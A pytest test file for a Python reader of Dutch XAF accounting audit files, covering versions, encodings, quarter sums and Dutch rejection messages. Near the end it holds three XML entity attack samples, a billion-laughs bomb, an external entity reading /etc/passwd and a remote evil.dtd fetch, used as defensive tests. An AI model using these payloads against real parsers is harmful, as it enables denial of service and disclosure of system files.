"""The XAF auditfile reader: each version, encodings, quarters, and every bad input in Dutch."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pytest
from budget_xaf_factory import (
    ACCOUNTS,
    NAMESPACES,
    Account,
    Auditfile,
    Journal,
    Line,
    Transaction,
    small_auditfile,
    small_expected,
)  # fmt: skip
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from swtgov.errors import ImportRejected, SwtgovError
from swtgov.services.budget.xaf import (
    AccountType,
    account_type,
    parse_cents,
    read_auditfile,
)
from swtgov.services.progress import Cancelled

SMALL = {v: small_auditfile(v).render() for v in ("3.1", "3.2", "4.0")}


def write(tmp_path: Path, data: bytes, name: str = "boekhouding.xaf") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def refused(path: Path) -> list[str]:
    with pytest.raises(ImportRejected) as caught:
        read_auditfile(path)
    return caught.value.problems


# -- what a good file gives -----------------------------------------------------------


@pytest.mark.parametrize("version", ["3.1", "3.2", "4.0"])
def test_each_version_gives_header_accounts_periods_and_quarter_sums(tmp_path: Path, version: str) -> None:
    file = read_auditfile(write(tmp_path, SMALL[version]))
    assert file.version == version
    assert file.namespace == NAMESPACES[version]
    assert (file.header.fiscal_year, file.header.start, file.header.end) == ("2025", dt.date(2025, 1, 1),
                                                                            dt.date(2025, 12, 31))
    assert file.header.year == 2025 and not file.header.broken_year
    assert file.accounts["4400"].description == "Huisvesting"
    assert file.accounts["1100"].account_type is AccountType.BALANCE
    assert file.accounts["8000"].account_type is AccountType.PROFIT_LOSS
    assert [(p.number, p.quarter) for p in file.periods.values()][:4] == [(1, 1), (2, 1), (3, 1), (4, 2)]
    assert (file.lines, file.transactions, file.quarters) == (44, 16, frozenset({1, 2, 3, 4}))
    # the opening balance (€ 5.000) and the 3.x transaction amount are not lines
    assert file.total_debit == file.total_credit == 222_694_834
    for q in (1, 2, 3, 4):
        assert {a: (t.debit[q - 1], t.credit[q - 1]) for a, t in file.totals.items()} == small_expected(q)
    assert [t.acc_id for t in file.profit_and_loss()] == ["4000", "4100", "4400", "4500", "8000", "8900"]


def test_the_namespace_is_taken_from_the_root_whatever_its_prefix_or_case(tmp_path: Path) -> None:
    data = SMALL["3.2"]
    prefixed = re.sub(rb"<(/?)([A-Za-z]\w*)", rb"<\1x:\2", data).replace(b"xmlns=", b"xmlns:x=")
    assert read_auditfile(write(tmp_path, prefixed)).lines == 44
    shouted = data.replace(b"http://www.auditfiles.nl/XAF/3.2", b"HTTP://WWW.AUDITFILES.NL/XAF/3.2/")
    assert read_auditfile(write(tmp_path, shouted)).version == "3.2"
    ns_321 = "http://www.odb.belastingdienst.nl/Belastingdienst/BCPP/1.0/structures/XmlAuditfileFinancieel3.2.1"
    assert read_auditfile(write(tmp_path, small_auditfile(namespace=ns_321).render())).version == "3.2.1"


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "windows-1252", "UTF-8"])
def test_declared_encodings_are_read(tmp_path: Path, encoding: str) -> None:
    name = "Café-bezoek coördinatoren" + (" €" if encoding != "ISO-8859-1" else "")
    accounts = [*ACCOUNTS, Account("4600", name, "P")]
    data = small_auditfile(encoding=encoding, accounts=accounts).render()
    file = read_auditfile(write(tmp_path, data))
    assert file.accounts["4600"].description == name
    assert file.read_as is None


def test_an_undeclared_latin1_file_is_read_as_iso_8859_1(tmp_path: Path) -> None:
    data = small_auditfile(encoding="ISO-8859-1").render().replace(b' encoding="ISO-8859-1"', b"")
    file = read_auditfile(write(tmp_path, data))
    assert file.read_as == "iso-8859-1"
    assert file.accounts["4400"].description == "Huisvesting" and file.lines == 44


def test_a_file_that_is_not_the_encoding_it_declares_is_refused_with_the_line(tmp_path: Path) -> None:
    data = small_auditfile(encoding="ISO-8859-1").render().replace(b"ISO-8859-1", b"UTF-8")
    assert refused(write(tmp_path, data)) == [
        ('"boekhouding.xaf" is volgens de XML-declaratie UTF-8, maar bevat op regel 19 tekens die dat niet '
        "zijn. Exporteer de auditfile opnieuw uit het boekhoudpakket.")
    ]


@pytest.mark.parametrize(("spelled", "expected"), [
    ("B", AccountType.BALANCE), ("bal", AccountType.BALANCE), ("Balans", AccountType.BALANCE),
    ("P", AccountType.PROFIT_LOSS), ("W", AccountType.PROFIT_LOSS), ("V/W", AccountType.PROFIT_LOSS),
    ("Winst & verlies", AccountType.PROFIT_LOSS), ("winst  en verlies", AccountType.PROFIT_LOSS),
    ("M", AccountType.MIXED), ("", None), ("Kostenplaats", None), (None, None),
])  # fmt: skip
def test_account_types_are_normalised(spelled: str | None, expected: AccountType | None) -> None:
    assert account_type(spelled) is expected


@pytest.mark.parametrize(("text", "cents"), [
    ("1234.56", 123456), ("7", 700), ("0.5", 50), (" 12.30 ", 1230), ("-12.50", -1250), ("12.3400", 1234),
    (".25", 25), ("100.", 10000),
])  # fmt: skip
def test_amounts_are_exact_cents(text: str, cents: int) -> None:
    assert parse_cents(text) == cents


@pytest.mark.parametrize("text", ["12,50", "1.234.56", "12.345", "", "-", "1e3", "1_000.00", "١٢"])
def test_amounts_that_are_not_xaf_decimals_are_refused(text: str) -> None:
    with pytest.raises(ValueError):
        parse_cents(text)


def _one_tx_file(period: int | None, date: dt.date | None, **changes: object) -> Auditfile:
    tx = Transaction("T1", period, date, [Line("4400", 10_000, "D"), Line("1100", 10_000, "C")])
    file = Auditfile(accounts=list(ACCOUNTS), journals=[Journal("MEM", "Memoriaal", [tx])])
    for key, value in changes.items():
        setattr(file, key, value)
    return file


def test_the_quarter_comes_from_the_period_then_from_the_date(tmp_path: Path) -> None:
    # period 5 ends in May (Q2) although the booking date says November
    assert read_auditfile(write(tmp_path, _one_tx_file(5, dt.date(2025, 11, 3)).render())).quarters == {2}
    # a period the file does not list: the date decides
    assert read_auditfile(write(tmp_path, _one_tx_file(14, dt.date(2025, 11, 3)).render())).quarters == {4}
    # no periods at all
    assert read_auditfile(write(tmp_path, _one_tx_file(None, dt.date(2025, 8, 31), periods=[]).render())).quarters == {3}


def test_four_weekly_periods_count_in_the_quarter_they_end(tmp_path: Path) -> None:
    start = dt.date(2025, 1, 1)
    periods = [(n, start + dt.timedelta(days=28 * (n - 1)), start + dt.timedelta(days=28 * n - 1)) for n in range(1, 14)]
    periods[-1] = (13, periods[-1][1], dt.date(2025, 12, 31))
    file = read_auditfile(write(tmp_path, _one_tx_file(4, dt.date(2025, 3, 30), periods=periods).render()))
    assert file.periods[4].end == dt.date(2025, 4, 22) and file.quarters == {2}
    assert [p.quarter for p in file.periods.values()] == [1, 1, 1, 2, 2, 2, 3, 3, 3, 4, 4, 4, 4]


def test_a_date_outside_the_fiscal_year_counts_in_the_nearest_quarter(tmp_path: Path) -> None:
    file = read_auditfile(write(tmp_path, _one_tx_file(None, dt.date(2026, 1, 15), periods=[]).render()))
    assert (file.quarters, file.dated_outside) == (frozenset({4}), 1)


def test_a_broken_fiscal_year_counts_quarters_from_its_start(tmp_path: Path) -> None:
    file = _one_tx_file(None, dt.date(2025, 8, 1), periods=[], fiscal_year="2025-2026",
                        start=dt.date(2025, 7, 1), end=dt.date(2026, 6, 30))
    read = read_auditfile(write(tmp_path, file.render()))
    assert read.header.broken_year and read.header.fiscal_start == dt.date(2025, 7, 1)
    assert read.quarters == {1}


def test_progress_reports_bytes_and_can_cancel(tmp_path: Path) -> None:
    path = write(tmp_path, SMALL["3.2"])
    calls: list[tuple[int, int]] = []
    read_auditfile(path, lambda done, total: calls.append((done, total)))
    assert calls[-1] == (path.stat().st_size, path.stat().st_size)

    def cancel(done: int, total: int) -> None:
        raise Cancelled()

    with pytest.raises(Cancelled):
        read_auditfile(path, cancel)


# -- every bad input: one Dutch reason ------------------------------------------------


def test_the_files_own_totals_must_agree(tmp_path: Path) -> None:
    count, debit, credit = small_auditfile().sums()
    data = small_auditfile(totals=(count + 1, debit + 100, credit)).render()
    assert refused(write(tmp_path, data)) == [
        ("totalDebit van de auditfile is € 2.226.949,34, maar de debetregels tellen op tot € 2.226.948,34; "
        "het bestand klopt niet of is onvolledig."),
        "totalDebit (€ 2.226.949,34) en totalCredit (€ 2.226.948,34) van de auditfile zijn niet gelijk.",
        ("linesCount van de auditfile is 45, maar het bestand bevat 44 boekingsregels; het bestand klopt niet "
        "of is onvolledig."),
    ]
    data = small_auditfile(totals=(count, debit, credit - 1)).render()
    assert refused(write(tmp_path, data))[0].startswith(
        "totalCredit van de auditfile is € 2.226.948,33, maar de creditregels tellen op tot € 2.226.948,34"
    )


def test_an_unbalanced_transaction_is_named_with_its_journal(tmp_path: Path) -> None:
    file = small_auditfile()
    file.journals[1].transactions[2].lines[0] = Line("4400", 3_000_001, "D")
    file.totals = file.sums()
    assert refused(write(tmp_path, file.render())) == [
        'Transactie "I2" in dagboek "INK" is niet in evenwicht: debet € 31.234,57, credit € 31.234,56.',
        "totalDebit (€ 2.226.948,35) en totalCredit (€ 2.226.948,34) van de auditfile zijn niet gelijk.",
    ]


def test_many_problems_are_listed_up_to_fifty_and_then_counted(tmp_path: Path) -> None:
    txs = [Transaction(f"T{n}", 1, dt.date(2025, 1, 2), [Line("4400", 100, "D"), Line("1100", 99, "C")])
           for n in range(60)]
    file = Auditfile(accounts=list(ACCOUNTS), journals=[Journal("MEM", "Memoriaal", txs)])
    problems = refused(write(tmp_path, file.render()))
    # 60 transactions and the totals: fifty listed
    assert len(problems) == 51 and problems[-1] == "en nog 11 andere problemen"


@pytest.mark.parametrize(("old", "new", "reason"), [
    (b"<amnt>100000.00</amnt>", b"<amnt>100000,00</amnt>",
     ('Transactie "M1" in dagboek "MEM", regel 1: het bedrag (amnt) "100000,00" is geen geldig bedrag; '
     "verwacht is bijvoorbeeld 1234.56.")),
    (b"<amnt>100000.00</amnt>\n            <amntTp>D", b"<amnt>100000.00</amnt>\n            <amntTp>X",
     'Transactie "M1" in dagboek "MEM", regel 1: amntTp is "X" in plaats van D (debet) of C (credit).'),
    (b"<accID>4000</accID>\n            <docRef>M1", b"<accID> </accID>\n            <docRef>M1",
     'Transactie "M1" in dagboek "MEM", regel 1: de regel heeft geen grootboekrekening (accID).'),
])  # fmt: skip
def test_a_bad_line_is_named_by_transaction_journal_and_line(tmp_path: Path, old: bytes, new: bytes, reason: str) -> None:
    file = small_auditfile()
    file.journals[0].transactions[0].lines[0] = Line("4000", 10_000_000, "D")
    file.journals[0].transactions[0].lines[2] = Line("1100", 12_500_000, "C")
    data = file.render()
    assert old in data
    assert refused(write(tmp_path, data.replace(old, new, 1)))[0] == reason


def _cut(data: bytes, fraction: float) -> bytes:
    return data[: int(len(data) * fraction)]


@pytest.mark.parametrize(("data", "expected"), [
    (b"", '"boekhouding.xaf" is leeg; een auditfile bevat een header en boekingen.'),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", '"boekhouding.xaf" is geen leesbaar XML-bestand en dus geen auditfile'),
    (_cut(SMALL["3.2"], 0.6), '"boekhouding.xaf" houdt onverwacht op (regel '),
    (SMALL["3.2"].replace(b"</header>", b"</headr>"),
     '"boekhouding.xaf" is geen geldige XML: sluitende tag past niet bij de openende tag op regel 12, kolom 5.'),
    (SMALL["3.2"] + b"<auditfile/>", '"boekhouding.xaf" is geen geldige XML: tekst na het einde van het document'),
    (b'<?xml version="1.0"?><invoice xmlns="urn:x"/>',
     '"boekhouding.xaf" is geen XAF-auditfile: het hoofdelement heet "invoice" in plaats van "auditfile".'),
    (SMALL["3.2"].replace(b' xmlns="http://www.auditfiles.nl/XAF/3.2"', b""),
     '"boekhouding.xaf" heeft geen XAF-namespace: dit is waarschijnlijk een oude XAF 1- of 2-auditfile'),
    (SMALL["3.2"].replace(b"http://www.auditfiles.nl/XAF/3.2", b"urn:example:boekhouding"),
     '"boekhouding.xaf" heeft een onbekende namespace ("urn:example:boekhouding"); swtgov leest XAF 3.1, 3.2 en 4.0.'),
    (SMALL["3.2"].replace(b"XAF/3.2", b"XAF/3.0"),
     '"boekhouding.xaf" is een auditfile van versie 3.0; swtgov leest XAF 3.1, 3.2 en 4.0.'),
    (SMALL["3.2"].replace(b"<fiscalYear>2025", b"<fiscalYear>vorig jaar"),
     "De header van de auditfile vermeldt \"vorig jaar\" als boekjaar (fiscalYear); verwacht is bijvoorbeeld"),
    (re.sub(rb"<header>.*</header>", b"", SMALL["3.2"], flags=re.DOTALL),
     '"boekhouding.xaf" heeft geen header met het boekjaar vóór de periodes en boekingen'),
    (re.sub(rb"<transactions>.*</transactions>", b"", SMALL["3.2"], flags=re.DOTALL),
     '"boekhouding.xaf" bevat geen boekingen (het onderdeel transactions ontbreekt)'),
    (re.sub(rb"<totalDebit>[^<]*</totalDebit>\s*<totalCredit>[^<]*</totalCredit>\s*<journal>", b"<journal>",
            SMALL["3.2"]),
     "totalDebit van de boekingen (transactions) ontbreekt; het bestand is niet te controleren."),
])  # fmt: skip
def test_bad_files_are_refused_in_dutch(tmp_path: Path, data: bytes, expected: str) -> None:
    problems = refused(write(tmp_path, data))
    assert problems[0].startswith(expected), problems


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE auditfile [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<auditfile xmlns="http://www.auditfiles.nl/XAF/3.2"><header><fiscalYear>&lol3;</fiscalYear></header></auditfile>
"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE auditfile [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<auditfile xmlns="http://www.auditfiles.nl/XAF/3.2"><header><fiscalYear>&secret;</fiscalYear></header></auditfile>
"""
PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE auditfile [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<auditfile xmlns="http://www.auditfiles.nl/XAF/3.2"/>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL, PARAMETER], ids=["laughs", "external", "parameter"])
def test_entity_attacks_are_refused_before_anything_expands(tmp_path: Path, data: bytes) -> None:
    (problem,) = refused(write(tmp_path, data))
    assert re.match(r'"boekhouding.xaf" bevat een entiteitsdeclaratie \(DTD\) \(regel [23]\)\.', problem)
    assert problem.endswith("Een auditfile heeft die nooit nodig; uit veiligheid is het bestand niet gelezen.")


def test_an_undeclared_entity_is_malformed_xml(tmp_path: Path) -> None:
    data = SMALL["3.2"].replace(b"<desc>Memoriaal</desc>", b"<desc>&secret;</desc>")
    assert refused(write(tmp_path, data))[0].startswith('"boekhouding.xaf" is geen geldige XML: onbekende entiteit')


def test_a_doctype_without_entities_is_harmless_and_read(tmp_path: Path) -> None:
    data = SMALL["3.2"].replace(b"?>\n", b'?>\n<!DOCTYPE auditfile SYSTEM "http://example.invalid/xaf.dtd">\n', 1)
    assert read_auditfile(write(tmp_path, data)).lines == 44


@pytest.mark.parametrize("declared", [b"shift_jis", b"bogus-8"])
def test_an_encoding_expat_cannot_read_is_refused(tmp_path: Path, declared: bytes) -> None:
    data = SMALL["3.2"].replace(b"UTF-8", declared, 1)
    assert refused(write(tmp_path, data))[0].startswith('"boekhouding.xaf" gebruikt een tekencodering die swtgov')


def test_a_missing_file_is_a_known_error(tmp_path: Path) -> None:
    with pytest.raises(SwtgovError, match="bestaat niet"):
        read_auditfile(tmp_path / "weg.xaf")


# -- whatever the bytes: an answer or a known error, never a crash ---------------------


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=400))
def test_random_bytes_give_only_known_errors(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(SwtgovError):
        read_auditfile(write(tmp_path, b'<?xml version="1.0"?>' + data if data[:1] == b"<" else data))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(version=st.sampled_from(["3.1", "3.2", "4.0"]), at=st.floats(0, 1, exclude_max=True))
def test_a_file_cut_anywhere_is_refused(tmp_path: Path, version: str, at: float) -> None:
    data = SMALL[version]
    cut = data[: int(len(data.rstrip()) * at)]
    with pytest.raises(ImportRejected):
        read_auditfile(write(tmp_path, cut))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(at=st.integers(0, len(SMALL["4.0"]) - 1), byte=st.integers(0, 255))
def test_one_changed_byte_gives_a_file_that_adds_up_or_a_known_error(tmp_path: Path, at: int, byte: int) -> None:
    data = bytearray(SMALL["4.0"])
    data[at] = byte
    try:
        file = read_auditfile(write(tmp_path, bytes(data)))
    except SwtgovError:
        return
    assert file.total_debit == file.total_credit
    assert sum(sum(t.debit) for t in file.totals.values()) == file.total_debit
    assert sum(sum(t.credit) for t in file.totals.values()) == file.total_credit


_NS = 'xmlns="http://www.auditfiles.nl/XAF/3.2"'
_HEADER = "<header><fiscalYear>2025</fiscalYear></header>"


@pytest.mark.parametrize("body", [
    f"{_HEADER}<trLine><amnt>x</amnt></trLine>",
    "<trLine><amnt>x</amnt></trLine>",
    f"{_HEADER}<transaction><trLine><amnt>x</amnt></trLine></transaction>",
    f"{_HEADER}<transaction><trLine><amnt>1</amnt><amntTp>D</amntTp><accID>1</accID></trLine></transaction>",
    f"{_HEADER}<period><periodNumber>1</periodNumber></period><transactions><totalDebit>1</totalDebit></transactions>",
    f"{_HEADER}<trLine><transaction><trLine><amnt>1</amnt></trLine></transaction></trLine>",
])  # fmt: skip
def test_elements_out_of_place_are_refused_not_a_crash(tmp_path: Path, body: str) -> None:
    problems = refused(write(tmp_path, f"<auditfile {_NS}>{body}</auditfile>".encode()))
    assert problems and not any("tekencodering" in p for p in problems)
